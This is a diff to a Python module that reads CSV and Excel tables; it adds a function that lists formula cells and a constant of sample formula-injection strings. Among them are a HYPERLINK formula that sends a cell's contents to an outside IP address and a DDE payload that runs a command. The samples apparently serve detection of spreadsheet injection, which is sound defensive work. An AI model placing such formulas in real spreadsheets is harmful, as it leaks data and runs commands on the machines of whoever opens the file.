@@ -4,6 +4,7 @@ import csv
 import io
 from collections.abc import Iterator, Mapping
 from pathlib import Path
+from typing import Any
 
 from attrs import frozen
 
@@ -11,6 +12,9 @@ from sicore.errors import MissingExtraError
 
 DELIMITED = frozenset({".csv", ".tsv"})
 WORKBOOK = ".xlsx"
+FORMULAS = ('=HYPERLINK("http://192.0.2.1/?"&A1,"open")', "+1+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3")
+"""Texts that spreadsheets take for formulas."""
+
 _DELIMITERS = ",;\t|"
 
 
@@ -59,7 +63,12 @@ def read_delimited(path: Path) -> Table:
     lines = text.splitlines() or [""]
     widest = max(lines[:20], key=lambda line: max(line.count(each) for each in _DELIMITERS))
     delimiter = max(_DELIMITERS, key=widest.count)
-    rows = list(csv.reader(io.StringIO(text), delimiter=delimiter))
+    # For the plugin the limit must stay what it is: what it does about longer cells is tried as well.
+    before = csv.field_size_limit(len(text) + 1)
+    try:
+        rows = list(csv.reader(io.StringIO(text), delimiter=delimiter))
+    finally:
+        csv.field_size_limit(before)
     return Table(rows=rows, header_at=_header_at(rows), delimiter=delimiter)
 
 
@@ -69,13 +78,32 @@ def read_workbook(path: Path) -> Iterator[Table]:
     Raises:
         MissingExtraError: the extra `tables` is not installed.
     """
+    for sheet in workbook(path).worksheets:
+        rows = [["" if cell is None else str(cell) for cell in row] for row in sheet.iter_rows(values_only=True)]
+        yield Table(rows=rows, header_at=_header_at(rows))
+
+
+def formulas_of_workbook(path: Path) -> Iterator[str]:
+    """The cells of a workbook that a spreadsheet computes.
+
+    Raises:
+        MissingExtraError: the extra `tables` is not installed.
+    """
+    for sheet in workbook(path).worksheets:
+        yield from (str(cell.value) for row in sheet.iter_rows() for cell in row if cell.data_type == "f")
+
+
+def workbook(path: Path) -> Any:
+    """A workbook, with its formulas.
+
+    Raises:
+        MissingExtraError: the extra `tables` is not installed.
+    """
     try:
         from openpyxl import load_workbook  # noqa: PLC0415  (an optional package)
     except ImportError as error:
         raise MissingExtraError("tables", "look into workbooks") from error
-    for sheet in load_workbook(path).worksheets:
-        rows = [["" if cell is None else str(cell) for cell in row] for row in sheet.iter_rows(values_only=True)]
-        yield Table(rows=rows, header_at=_header_at(rows))
+    return load_workbook(path)
 
 
 def _header_at(rows: list[list[str]]) -> int:
